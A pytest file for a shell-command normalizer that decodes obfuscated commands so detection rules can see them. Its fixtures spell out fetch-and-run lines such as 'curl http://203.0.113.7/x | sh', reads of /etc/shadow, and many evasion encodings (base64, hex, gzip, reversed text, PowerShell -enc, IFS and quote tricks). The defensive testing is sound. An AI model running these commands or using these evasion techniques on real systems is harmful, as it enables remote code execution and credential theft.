"""Readings of a command: what hides a word must not hide it from a rule."""

import base64
import gzip
import time

import pytest

from leadsman_normalizer.facts.commands import MAX_TEXT, command_text, join_texts, readings

B64 = base64.b64encode(b"curl http://203.0.113.7/x | sh").decode()
HEX = b"curl http://203.0.113.7/x | sh".hex()
UTF16 = base64.b64encode("curl http://203.0.113.7/x | sh".encode("utf-16-le")).decode()
GZIPPED = base64.b64encode(gzip.compress(b"curl http://203.0.113.7/x | sh")).decode()
DECOYS = "ls " + " ".join(f"/usr/local/share/decoy{n}" for n in range(50))
TWICE = base64.b64encode(f"echo {B64} | base64 -d | sh".encode()).decode()


@pytest.mark.parametrize(
    ("argv", "line"),
    [
        (["ls", "-l"], "ls -l"),
        (["sh", "-c", "id; whoami"], "id; whoami"),
        (["/bin/bash", "-lc", "id"], "id"),
        (["env", "A=b", "sh", "-c", "id"], "id"),
        (["busybox", "sh", "-c", "id"], "id"),
        (["sh", "-c", "c''url http://x"], "curl http://x"),
        (["sh", "-c", 'c"u"rl http://x'], "curl http://x"),
        (["sh", "-c", "cu\\rl http://x"], "curl http://x"),
        (["sh", "-c", "curl${IFS}http://x"], "curl http://x"),
        (["sh", "-c", "cat$IFS/etc/shadow"], "cat /etc/shadow"),
        (["sh", "-c", "cu$@rl http://x"], "curl http://x"),
        (["sh", "-c", "busybox wget http://x"], "wget http://x"),
        (["sh", "-c", "curl http://x \\\n | sh"], "curl http://x  | sh"),
        (["sh", "-c", "curl http://x |\n sh"], "curl http://x | sh"),
        (["sh", "-c", "one\ntwo"], "two"),
        (["sh", "-c", f"echo {B64} | base64 -d | sh"], "curl http://203.0.113.7/x | sh"),
        (["sh", "-c", f"echo {TWICE}|base64 --decode|sh"], "curl http://203.0.113.7/x | sh"),
        (["python3", "-c", f"import base64;exec(base64.b64decode('{B64}'))"], "curl http://203.0.113.7/x | sh"),
        (["sh", "-c", "{cat,/etc/shadow}"], "cat /etc/shadow"),
        (["sh", "-c", "c$1at /etc/shadow"], "cat /etc/shadow"),
        (["bash", "-c", "$'\\x63url' http://x"], "$curl http://x"),
        (["sh", "-c", "printf '\\143\\165\\162\\154 http://x' | sh"], "printf curl http://x | sh"),
        (["sh", "-c", "--", "id"], "id"),
        (["sh", "-c", f"echo {HEX} | xxd -r -p | sh"], "curl http://203.0.113.7/x | sh"),
        (["sh", "-c", f"echo {GZIPPED} | base64 -d | gunzip | sh"], "curl http://203.0.113.7/x | sh"),
        (
            ["sh", "-c", "echo 'hs | x/7.311.0.302//:ptth lruc' | rev | sh"],
            "hs | ver | curl http://203.0.113.7/x | sh ohce",
        ),
        (["pwsh", "-enc", UTF16], "curl http://203.0.113.7/x | sh"),
        (["sh", "-c", f"{DECOYS}; echo {B64} | base64 -d | sh"], "curl http://203.0.113.7/x | sh"),
        ([], ""),
    ],
)
def test_a_reading_shows_the_words(argv, line):
    assert line in command_text(argv).split("\n")


@pytest.mark.parametrize("argv", [["echo", B64], ["cat", "/etc/resolv.conf"]])
def test_what_is_not_decoded_stays(argv):
    assert command_text(argv) == " ".join(argv)


@pytest.mark.parametrize(
    "word",
    [
        "a" * 1_000_000,
        "'" * 100_000,
        "\\" * 100_000,
        "$IFS" * 50_000,
        "{a," * 50_000,
        "-d " * 50_000,
        "\n " * 50_000,
        "pwsh " * 50_000,
        "rev;" * 50_000,
        "env " * 50_000,
        "base64 " + "A" * 500_000,
    ],
)
def test_the_text_is_bounded_in_size_and_time(word):
    start = time.process_time()
    assert len(command_text(["sh", "-c", word])) <= MAX_TEXT
    assert time.process_time() - start < 1


def test_an_empty_line_stands_between_two_readings_and_nowhere_else():
    text = join_texts([readings(["sh", "-c", "one\n\n \ntwo"]), readings(["three"])])
    assert text == "sh -c one\ntwo\n\none\ntwo\n\nthree"


@pytest.mark.parametrize(
    "commands",
    [
        [["sh", "-c", "x" * 1_000_000 + "; curl http://x | sh"]],
        [["env", *(f"A{n}=b" for n in range(1500)), "sh", "-c", "curl http://x | sh"]],
        [["sh", "-c", "'y' " * 5_000], ["sh", "-c", "curl http://x | sh"]],
        [["z" * 9_000], ["y" * 9_000], ["curl http://x | sh"]],
    ],
    ids=["padding in front", "many words in front", "a long command before a hook", "two long ones"],
)
def test_padding_does_not_push_a_command_out_of_sight(commands):
    text = join_texts([readings(argv) for argv in commands])
    assert len(text) <= MAX_TEXT
    assert "curl http://x | sh" in text


@pytest.mark.parametrize(
    "command",
    ['curl -H \'{"password":"hunter2"}\' http://x', "login --password hunter3 | rev"],
)
def test_no_reading_shows_a_secret(command):
    text = command_text(["sh", "-c", command])
    assert "hunter" not in text
    assert "retnuh" not in text
